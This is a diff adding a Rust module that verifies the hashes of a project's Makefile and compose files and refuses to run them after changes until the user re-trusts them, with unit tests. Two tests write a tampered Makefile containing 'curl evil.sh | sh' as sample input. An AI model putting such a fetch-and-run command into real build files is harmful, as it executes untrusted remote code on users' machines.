@@ -0,0 +1,469 @@
+// Project file trust
+// `make up` and compose run whatever the checkout's Makefile and compose files
+// say. Their SHA-256 hashes are recorded the first time a checkout is used (or
+// when the user re-trusts it) and checked before anything runs them; changed
+// files are refused, with a `project-files-changed` event describing the
+// change, until `trust_project_files` is called.
+
+use crate::confirm::Confirmations;
+use crate::events::{self, EventSink};
+use crate::messages::{Coded, Message};
+use crate::protocol::Handshake;
+use crate::services::{COMPOSE_FILES, TRAEFIK_COMPOSE_FILE};
+use crate::settings::AppSettings;
+use crate::{info, warn};
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use std::collections::BTreeMap;
+use std::fmt;
+use std::path::{Path, PathBuf};
+use std::sync::Mutex;
+use tauri::{AppHandle, Manager, State};
+
+pub const TRUST_FILE_NAME: &str = "trusted-project-files.json";
+/// Emitted when project files changed since they were trusted, with a
+/// ProjectFilesChanged payload
+pub const PROJECT_FILES_CHANGED_EVENT: &str = "project-files-changed";
+/// Changed lines shown per file in the diff summary
+const PREVIEW_LINES: usize = 5;
+
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+struct TrustedFile {
+    sha256: String,
+    // Kept so a later change can be summarized as a diff
+    contents: String,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+struct TrustedRoot {
+    trusted_at: String,
+    /// Relative path → trusted content
+    files: BTreeMap<String, TrustedFile>,
+}
+
+/// How a file differs from its trusted version
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+#[serde(tag = "change", rename_all = "snake_case")]
+pub enum FileChange {
+    Modified {
+        lines_added: usize,
+        lines_removed: usize,
+        /// The first changed lines, prefixed with `+ ` or `- `
+        preview: Vec<String>,
+    },
+    Added,
+    Removed,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct ChangedFile {
+    pub file: String,
+    #[serde(flatten)]
+    pub change: FileChange,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct ProjectFilesChanged {
+    pub project_root: String,
+    pub trusted_at: String,
+    pub files: Vec<ChangedFile>,
+}
+
+impl fmt::Display for ProjectFilesChanged {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        let files: Vec<&str> = self.files.iter().map(|file| file.file.as_str()).collect();
+        write!(
+            f,
+            "Project files changed since they were trusted ({}); review them and call trust_project_files to run them",
+            files.join(", ")
+        )
+    }
+}
+
+impl Coded for ProjectFilesChanged {
+    fn message(&self) -> Message {
+        let files: Vec<&str> = self.files.iter().map(|file| file.file.as_str()).collect();
+        Message::new("project-files-changed").with_param("files", files.join(", "))
+    }
+}
+
+/// Trusted hashes per project root, stored as JSON in the app config dir
+pub struct TrustStore {
+    path: PathBuf,
+    // Serializes read-modify-write of the file
+    lock: Mutex<()>,
+}
+
+impl TrustStore {
+    pub fn new(path: PathBuf) -> Self {
+        Self {
+            path,
+            lock: Mutex::new(()),
+        }
+    }
+
+    fn load(&self) -> BTreeMap<PathBuf, TrustedRoot> {
+        match std::fs::read_to_string(&self.path) {
+            Ok(contents) => serde_json::from_str(&contents).unwrap_or_else(|e| {
+                warn!("⚠️  Ignoring invalid trust store {:?}: {}", self.path, e);
+                BTreeMap::new()
+            }),
+            Err(_) => BTreeMap::new(),
+        }
+    }
+
+    fn save(&self, roots: &BTreeMap<PathBuf, TrustedRoot>) -> Result<(), String> {
+        if let Some(dir) = self.path.parent() {
+            std::fs::create_dir_all(dir)
+                .map_err(|e| format!("Failed to create trust store directory: {}", e))?;
+        }
+        let contents = serde_json::to_string_pretty(roots).map_err(|e| e.to_string())?;
+        std::fs::write(&self.path, contents)
+            .map_err(|e| format!("Failed to save trust store: {}", e))
+    }
+
+    /// Record the current files of `project_root` as trusted, returning their names
+    pub fn trust(&self, project_root: &Path) -> Result<Vec<String>, String> {
+        let _guard = self.lock.lock().unwrap();
+        let files = snapshot(project_root)?;
+        let names = files.keys().cloned().collect();
+        let mut roots = self.load();
+        roots.insert(
+            project_root.to_path_buf(),
+            TrustedRoot {
+                trusted_at: chrono::Utc::now().to_rfc3339(),
+                files,
+            },
+        );
+        self.save(&roots)?;
+        Ok(names)
+    }
+
+    /// What changed since `project_root` was trusted, `None` if nothing did
+    /// A root seen for the first time is trusted as it is.
+    pub fn verify(&self, project_root: &Path) -> Result<Option<ProjectFilesChanged>, String> {
+        let trusted = {
+            let _guard = self.lock.lock().unwrap();
+            self.load().remove(project_root)
+        };
+        let Some(trusted) = trusted else {
+            info!("🔏 Trusting the project files of {:?}", project_root);
+            self.trust(project_root)?;
+            return Ok(None);
+        };
+
+        let current = snapshot(project_root)?;
+        let files = compare(&trusted.files, &current);
+        Ok((!files.is_empty()).then(|| ProjectFilesChanged {
+            project_root: project_root.display().to_string(),
+            trusted_at: trusted.trusted_at,
+            files,
+        }))
+    }
+
+    /// Refuse to go on with files that changed since they were trusted
+    /// Skipped, with a warning, when the dev setting turns verification off.
+    pub fn check(
+        &self,
+        sink: &dyn EventSink,
+        project_root: &Path,
+        settings: &AppSettings,
+    ) -> Result<(), String> {
+        if let Some(warning) = verification_warning(settings) {
+            warn!("⚠️  {}", warning);
+            return Ok(());
+        }
+        match self.verify(project_root)? {
+            None => Ok(()),
+            Some(changed) => {
+                warn!("🚫 {}", changed);
+                events::emit_coded(sink, PROJECT_FILES_CHANGED_EVENT, &changed);
+                Err(changed.to_string())
+            }
+        }
+    }
+}
+
+/// Whether the developer setting has verification off
+/// Only honored in dev mode, so a stray setting can't disable it for good.
+pub fn verification_disabled(settings: &AppSettings) -> bool {
+    settings.dev_mode && settings.skip_project_file_verification
+}
+
+/// Warning shown in logs and diagnostics while verification is off
+pub fn verification_warning(settings: &AppSettings) -> Option<String> {
+    verification_disabled(settings).then(|| {
+        "Project file verification is DISABLED (skip_project_file_verification); \
+         the Makefile and compose files run unchecked"
+            .to_string()
+    })
+}
+
+/// Files of the checkout whose content decides what runs
+fn snapshot(project_root: &Path) -> Result<BTreeMap<String, TrustedFile>, String> {
+    let mut files = BTreeMap::new();
+    for name in ["Makefile"]
+        .iter()
+        .chain(COMPOSE_FILES.iter())
+        .chain([&TRAEFIK_COMPOSE_FILE])
+    {
+        let path = project_root.join(name);
+        if !path.is_file() {
+            continue;
+        }
+        let bytes =
+            std::fs::read(&path).map_err(|e| format!("Failed to read {:?}: {}", path, e))?;
+        files.insert(
+            name.to_string(),
+            TrustedFile {
+                sha256: format!("{:x}", Sha256::digest(&bytes)),
+                contents: String::from_utf8_lossy(&bytes).into_owned(),
+            },
+        );
+    }
+    Ok(files)
+}
+
+fn compare(
+    trusted: &BTreeMap<String, TrustedFile>,
+    current: &BTreeMap<String, TrustedFile>,
+) -> Vec<ChangedFile> {
+    let mut changes = Vec::new();
+    for (file, old) in trusted {
+        let change = match current.get(file) {
+            None => FileChange::Removed,
+            Some(new) if new.sha256 != old.sha256 => line_diff(&old.contents, &new.contents),
+            Some(_) => continue,
+        };
+        changes.push(ChangedFile {
+            file: file.clone(),
+            change,
+        });
+    }
+    for file in current.keys().filter(|file| !trusted.contains_key(*file)) {
+        changes.push(ChangedFile {
+            file: file.clone(),
+            change: FileChange::Added,
+        });
+    }
+    changes
+}
+
+/// Line counts and a preview from the longest common subsequence of lines
+fn line_diff(old: &str, new: &str) -> FileChange {
+    let old: Vec<&str> = old.lines().collect();
+    let new: Vec<&str> = new.lines().collect();
+
+    // common[i][j]: LCS length of old[i..] and new[j..]
+    let mut common = vec![vec![0usize; new.len() + 1]; old.len() + 1];
+    for i in (0..old.len()).rev() {
+        for j in (0..new.len()).rev() {
+            common[i][j] = if old[i] == new[j] {
+                common[i + 1][j + 1] + 1
+            } else {
+                common[i + 1][j].max(common[i][j + 1])
+            };
+        }
+    }
+
+    let (mut i, mut j) = (0, 0);
+    let (mut lines_added, mut lines_removed) = (0, 0);
+    let mut preview = Vec::new();
+    let mut note = |line: String| {
+        if preview.len() < PREVIEW_LINES {
+            preview.push(line);
+        }
+    };
+    while i < old.len() || j < new.len() {
+        if i < old.len() && j < new.len() && old[i] == new[j] {
+            i += 1;
+            j += 1;
+        } else if j < new.len() && (i == old.len() || common[i][j + 1] >= common[i + 1][j]) {
+            note(format!("+ {}", new[j]));
+            lines_added += 1;
+            j += 1;
+        } else {
+            note(format!("- {}", old[i]));
+            lines_removed += 1;
+            i += 1;
+        }
+    }
+
+    FileChange::Modified {
+        lines_added,
+        lines_removed,
+        preview,
+    }
+}
+
+/// What `trust_project_files` trusts, or trusted
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct ProjectFilesTrust {
+    pub files: Vec<String>,
+    /// Only on a dry run; the real call passes it back
+    pub confirmation_token: Option<String>,
+}
+
+/// The project files of `project_root` and a digest of their contents, which
+/// ties a confirmation to the files the user reviewed
+fn fingerprint(project_root: &Path) -> Result<(Vec<String>, String), String> {
+    let files = snapshot(project_root)?;
+    let mut digest = Sha256::new();
+    for (name, file) in &files {
+        digest.update(name.as_bytes());
+        digest.update(file.sha256.as_bytes());
+    }
+    Ok((files.into_keys().collect(), format!("{:x}", digest.finalize())))
+}
+
+/// Trust the project files as they are now, after reviewing a change; run
+/// with `dry_run` first for the confirmation token. A token no longer
+/// confirms anything once the files change again.
+#[tauri::command]
+pub async fn trust_project_files(
+    app_handle: AppHandle,
+    store: State<'_, TrustStore>,
+    confirmations: State<'_, Confirmations>,
+    dry_run: bool,
+    confirmation_token: Option<String>,
+) -> Result<ProjectFilesTrust, String> {
+    app_handle.state::<Handshake>().ensure()?;
+    let project_root = crate::find_project_root(&app_handle)?;
+    let (files, digest) = fingerprint(&project_root)?;
+    let action = format!("trust_project_files:{}:{}", project_root.display(), digest);
+    if dry_run {
+        return Ok(ProjectFilesTrust {
+            files,
+            confirmation_token: Some(confirmations.issue(&action)),
+        });
+    }
+    let token = confirmation_token
+        .ok_or("trust_project_files needs the confirmation token from a dry run")?;
+    confirmations.redeem(&action, &token)?;
+
+    let files = store.trust(&project_root)?;
+    info!("🔏 Trusted {:?} in {:?}", files, project_root);
+    Ok(ProjectFilesTrust {
+        files,
+        confirmation_token: None,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::events::recording::RecordingSink;
+    use crate::test_support::temp_dir;
+    use tempfile::TempDir;
+
+    fn checkout(tmp: &TempDir) -> PathBuf {
+        let root = tmp.path().to_path_buf();
+        std::fs::create_dir_all(root.join("apps/api")).unwrap();
+        std::fs::write(root.join("Makefile"), "up:\n\tdocker compose up -d\n").unwrap();
+        std::fs::write(root.join(COMPOSE_FILES[0]), "services: {}\n").unwrap();
+        root
+    }
+
+    #[test]
+    fn test_first_use_is_trusted_then_changes_are_refused() {
+        let tmp = temp_dir();
+        let root = checkout(&tmp);
+        let store = TrustStore::new(root.join("config").join(TRUST_FILE_NAME));
+        let sink = RecordingSink::default();
+        let settings = AppSettings::default();
+
+        store.check(&sink, &root, &settings).unwrap();
+        store.check(&sink, &root, &settings).unwrap();
+
+        std::fs::write(root.join("Makefile"), "up:\n\tcurl evil.sh | sh\n").unwrap();
+        let error = store.check(&sink, &root, &settings).unwrap_err();
+        assert!(error.contains("Makefile"), "{}", error);
+
+        let events = sink.events_named(PROJECT_FILES_CHANGED_EVENT);
+        assert_eq!(events.len(), 1);
+        assert_eq!(events[0]["files"][0]["file"], "Makefile");
+        assert_eq!(events[0]["files"][0]["change"], "modified");
+        assert_eq!(events[0]["files"][0]["lines_added"], 1);
+        assert_eq!(events[0]["files"][0]["lines_removed"], 1);
+        let envelope = &sink.envelopes_named(PROJECT_FILES_CHANGED_EVENT)[0];
+        assert_eq!(envelope["message"]["code"], "project-files-changed");
+        assert_eq!(envelope["message"]["params"]["files"], "Makefile");
+
+        // Re-trusting accepts the new content
+        store.trust(&root).unwrap();
+        store.check(&sink, &root, &settings).unwrap();
+    }
+
+    #[test]
+    fn test_fingerprint_follows_the_contents() {
+        let tmp = temp_dir();
+        let root = checkout(&tmp);
+        let (files, digest) = fingerprint(&root).unwrap();
+        assert_eq!(files, vec!["Makefile".to_string(), COMPOSE_FILES[0].to_string()]);
+        assert_eq!(fingerprint(&root).unwrap().1, digest);
+
+        std::fs::write(root.join("Makefile"), "up:\n\tcurl evil.sh | sh\n").unwrap();
+        assert_ne!(fingerprint(&root).unwrap().1, digest);
+    }
+
+    #[test]
+    fn test_added_and_removed_files() {
+        let tmp = temp_dir();
+        let root = checkout(&tmp);
+        let store = TrustStore::new(root.join("config").join(TRUST_FILE_NAME));
+        store.trust(&root).unwrap();
+
+        std::fs::remove_file(root.join(COMPOSE_FILES[0])).unwrap();
+        let traefik = root.join(TRAEFIK_COMPOSE_FILE);
+        std::fs::create_dir_all(traefik.parent().unwrap()).unwrap();
+        std::fs::write(&traefik, "services: {}\n").unwrap();
+
+        let changed = store.verify(&root).unwrap().unwrap();
+        let changes: Vec<(&str, &FileChange)> = changed
+            .files
+            .iter()
+            .map(|file| (file.file.as_str(), &file.change))
+            .collect();
+        assert_eq!(
+            changes,
+            [
+                (COMPOSE_FILES[0], &FileChange::Removed),
+                (TRAEFIK_COMPOSE_FILE, &FileChange::Added)
+            ]
+        );
+    }
+
+    #[test]
+    fn test_dev_setting_skips_verification_only_in_dev_mode() {
+        let tmp = temp_dir();
+        let root = checkout(&tmp);
+        let store = TrustStore::new(root.join("config").join(TRUST_FILE_NAME));
+        store.trust(&root).unwrap();
+        std::fs::write(root.join("Makefile"), "up:\n").unwrap();
+
+        let mut settings = AppSettings {
+            skip_project_file_verification: true,
+            ..AppSettings::default()
+        };
+        let sink = RecordingSink::default();
+        assert!(store.check(&sink, &root, &settings).is_err());
+        assert!(verification_warning(&settings).is_none());
+
+        settings.dev_mode = true;
+        store.check(&sink, &root, &settings).unwrap();
+        assert!(verification_warning(&settings).unwrap().contains("DISABLED"));
+    }
+
+    #[test]
+    fn test_line_diff_preview() {
+        let change = line_diff("a\nb\nc\n", "a\nB\nc\nd\n");
+        assert_eq!(
+            change,
+            FileChange::Modified {
+                lines_added: 2,
+                lines_removed: 1,
+                preview: vec!["+ B".to_string(), "- b".to_string(), "+ d".to_string()],
+            }
+        );
+    }
+}